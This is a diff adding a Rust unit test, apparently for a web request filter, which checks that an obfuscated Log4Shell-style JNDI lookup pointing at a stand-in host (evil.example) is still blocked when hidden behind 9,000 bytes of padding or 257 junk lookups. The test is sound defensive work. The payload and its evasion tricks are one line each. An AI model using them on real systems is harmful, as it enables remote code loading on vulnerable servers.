@@ -449,6 +449,28 @@ mod tests {
         }
     }
 
+    /// A lookup behind 9000 bytes of padding in a JSON field, or followed by 257 junk lookups,
+    /// is resolved (the resolver read the first 8 KiB, and gave up after 256 lookups).
+    #[test]
+    fn a_lookup_behind_padding_or_junk_is_resolved() {
+        const ATTACK: &str = "${${x:-j}ndi:rmi://evil.example/a}";
+        for v in [
+            format!("{}{ATTACK}", "a".repeat(9000)),
+            format!("{ATTACK}{}", "${x}".repeat(257)),
+        ] {
+            let (head, _) = post("");
+            let out = run(&head, &format!(r#"{{"q":"{v}"}}"#));
+            assert!(out.blocked);
+            assert!(
+                out.findings
+                    .iter()
+                    .any(|f| f.finding.rule == 2000 && f.finding.target == "body:$.q"),
+                "{:?}",
+                out.findings
+            );
+        }
+    }
+
     #[test]
     fn the_plain_value_shortcut_hides_no_finding() {
         // Letters, digits, `_` and `-` skip the detectors, but not these: traversal whose
